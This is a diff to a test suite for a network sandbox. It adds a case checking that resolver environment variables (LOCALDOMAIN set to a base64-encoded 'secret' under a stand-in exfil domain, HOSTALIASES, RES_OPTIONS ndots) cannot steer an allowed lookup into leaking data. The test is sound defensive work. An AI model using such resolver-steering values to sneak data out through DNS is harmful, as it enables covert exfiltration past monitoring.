@@ -627,6 +627,15 @@ def dns_exfil_case():
         dns.reset()
         r = run(wrap + [NETOPS, op, query], profile=P_NONAME, mode="enforce", preload=False)
         results[f"{op} {query}"] = (r, dns.count())
+    # An allowed name, with the resolver's environment set to send it elsewhere.
+    allowed = profile([{"host": "api.allowed.example", "ports": [443]}], "steer")
+    for var, value in (("", ""), ("LOCALDOMAIN", "c2VjcmV0.exfil.example.com"),
+                       ("HOSTALIASES", os.path.join(W, "aliases")),
+                       ("RES_OPTIONS", "ndots:5")):
+        dns.reset()
+        r = run(wrap + [NETOPS, "getaddrinfo", "api.allowed.example", "443"], profile=allowed,
+                mode="enforce", preload=False, env={var: value} if var else None)
+        results[f"steer {var}"] = (r, dns.count(1, timeout=3) if not var else dns.count())
     dns.sock.close()
     return results, None
 
@@ -642,6 +651,7 @@ else:
            f"enforce queries={n_enforce} alert queries={n_alert}\n" + re_.diag())
     others = {k: v for k, v in results.items() if k not in ("enforce", "alert")}
     gni = results.pop("getnameinfo 2001:db8::c0ff:ee")
+    steer = {k: results.pop(k) for k in list(results) if k.startswith("steer")}
     others = {k: v for k, v in results.items() if k not in ("enforce", "alert")}
     ptr6 = ".".join(reversed(socket.inet_pton(socket.AF_INET6, "2001:db8::c0ff:ee").hex())) + \
         ".ip6.arpa"
@@ -649,6 +659,16 @@ else:
            net_events(gni[0], type="violation", op="getnameinfo", target=ptr6),
            "enforce: getnameinfo of an address no rule lets be looked up sends no PTR query, "
            "answers the numeric form, and logs the reverse name", f"{ptr6}\n" + gni[0].diag())
+    plain = steer.pop("steer ")
+    tap.ok(plain[1] >= 1 and all(
+        n == 0 and r.rc == 1 and [e for e in net_events(r, type="violation", action="blocked")
+                                  if k.split()[1] in e.get("detail", "")]
+        for k, (r, n) in steer.items()),
+           "enforce: an allowed name is resolved, but not with LOCALDOMAIN, HOSTALIASES or "
+           "RES_OPTIONS ndots set (the resolver would ask for names of the program's choosing): "
+           "refused, no query, logged with the reason",
+           "\n".join(f"{k}: queries={n}\n{r.diag()}" for k, (r, n) in
+                     list(steer.items()) + [("plain", plain)]))
     tap.ok(all(n == 0 and r.rc == 1 and net_events(r, type="violation", action="blocked")
                for r, n in others.values()),
            "enforce: no query leaves either for 'ADDR%name' through gethostbyname2(AF_INET6) "
